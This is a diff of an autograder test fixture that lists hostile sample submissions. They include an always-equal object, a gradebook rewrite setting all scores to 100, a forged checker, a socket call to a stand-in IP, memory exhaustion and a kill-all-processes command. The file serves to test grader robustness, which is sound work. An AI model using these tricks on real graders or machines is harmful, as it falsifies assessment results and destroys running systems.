@@ -5,11 +5,9 @@ What is tried here is known from graders that fell for it; the answer's value is
 
 from __future__ import annotations
 
-# Kind of student: what the grader should say, and the source of the answer.
+# Kind of student: the source of the answer, which earns nothing.
 HOSTILE = {
-    "equals everything": (
-        "wrong",
-        """
+    "equals everything": """
 class Equal:
     __lt__ = __le__ = __gt__ = __ge__ = __eq__ = lambda self, other: True
     __hash__ = object.__hash__
@@ -17,10 +15,7 @@ class Equal:
 def {name}(*args, **options):
     return Equal()
 """,
-    ),
-    "rewrites the gradebook": (
-        "crashed",
-        """
+    "rewrites the gradebook": """
 import os, sqlite3
 
 def {name}(*args, **options):
@@ -29,10 +24,7 @@ def {name}(*args, **options):
     with sqlite3.connect(found) as gradebook:
         gradebook.execute("UPDATE grade SET manual_score = 100")
 """,
-    ),
-    "forges the checker": (
-        "wrong",
-        """
+    "forges the checker": """
 import coursekit
 
 class Points(float):
@@ -43,31 +35,21 @@ coursekit.check = lambda *args, **options: Points(100.0)
 def {name}(*args, **options):
     return coursekit.check()
 """,
-    ),
-    "sends it all home": (
-        "crashed",
-        """
+    "sends it all home": """
 import socket
 
 def {name}(*args, **options):
     socket.create_connection(("198.51.100.7", 443), timeout=5)
 """,
-    ),
-    "eats the memory": (
-        "crashed",
-        """
+    "eats the memory": """
 def {name}(*args, **options):
     return [bytearray(50_000_000) for _ in range(1_000)]
 """,
-    ),
-    "stops the machine": (
-        "crashed",
-        """
+    "stops the machine": """
 import os, signal
 
 def {name}(*args, **options):
     os.kill(-1, signal.SIGKILL)
     os.kill(os.getpid(), signal.SIGKILL)
 """,
-    ),
 }
